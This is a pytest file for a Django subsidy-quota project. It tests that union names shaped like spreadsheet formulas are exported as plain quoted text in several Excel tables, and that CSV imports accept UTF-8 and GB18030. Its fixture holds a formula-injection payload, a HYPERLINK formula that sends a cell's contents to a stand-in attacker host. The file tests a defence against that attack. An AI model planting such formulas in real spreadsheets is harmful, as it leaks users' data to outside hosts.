"""One safe table module (issue 14): a union renamed like a formula is text in every table
the project writes, read back with openpyxl; CSV imports read GB18030 as well as UTF-8."""

import io

import pytest
from openpyxl import load_workbook

from payouts.allocation.selectors import quota_usage
from payouts.allocation.xlsx import quota_usage_xlsx
from payouts.dashboard.selectors import dashboard_stats
from payouts.reports.workbooks import unit_table_workbook
from qiuxue.tables.reading import TableReadError, csv_rows
from qiuxue.tables.sheets import workbook_bytes
from quotas.models import Union
from quotas.quota_tables.export import quota_table_export_xlsx

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&C3,"历下区总工会")'


def _cells_named(content: bytes, text: str):
    ws = load_workbook(io.BytesIO(content)).active
    return [c for row in ws.iter_rows() for c in row if c.value == text], ws


@pytest.fixture
def evil_county(jinan):
    Union.objects.filter(pk=jinan.counties[0].pk).update(name=EVIL)
    for quota in jinan.quotas.values():
        quota.refresh_from_db()
    return jinan


@pytest.mark.parametrize("table", ["quota table", "usage", "unit report"])
def test_a_union_named_like_a_formula_is_text_in_every_table(evil_county, table):
    jinan = evil_county
    source = jinan.sources["city"]
    if table == "quota table":
        content = quota_table_export_xlsx(source=source)
    elif table == "usage":
        content = quota_usage_xlsx(source=source, rows=quota_usage(source=source))
    else:
        stats = dashboard_stats(program=jinan.program, scope=jinan.city, batch=None)
        content = workbook_bytes(unit_table_workbook(stats=stats))
    cells, ws = _cells_named(content, EVIL)
    assert cells, f"{table}: the union's name is missing"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix, f"{table}: {cell.coordinate} is a live formula"
    # Every table is bordered, frozen under its header and set up to print on A4.
    assert ws.freeze_panes in ("A3", "C3")
    assert int(ws.page_setup.paperSize) == 9 and ws.page_setup.fitToWidth == 1  # 9: A4
    assert ws["B2"].border.left.style == "thin" and ws["B2"].font.bold


def test_usage_table_has_the_pages_columns(jinan):
    source = jinan.sources["city"]
    ws = load_workbook(io.BytesIO(quota_usage_xlsx(source=source, rows=quota_usage(source=source)))).active
    assert [c.value for c in ws[2]] == [
        "序号",
        "单位",
        "拟补贴人数",
        "已审核通过",
        "已分配",
        "调剂获补",
        "未获补助",
        "候补",
        "剩余",
    ]


def test_csv_is_read_in_utf8_with_or_without_bom_and_in_gb18030():
    rows = [["姓名", "身份证号", "学校", "状态"], ["张三", "370102199001011237", "山东开放大学", "在读"]]
    text = "\n".join(",".join(r) for r in rows) + "\n"
    for content in (text.encode("utf-8"), b"\xef\xbb\xbf" + text.encode("utf-8"), text.encode("gb18030")):
        assert csv_rows(content) == rows
    with pytest.raises(TableReadError, match="无法识别 CSV 文件的编码"):
        csv_rows(b"\x81\x30\xff\xff\xfe")
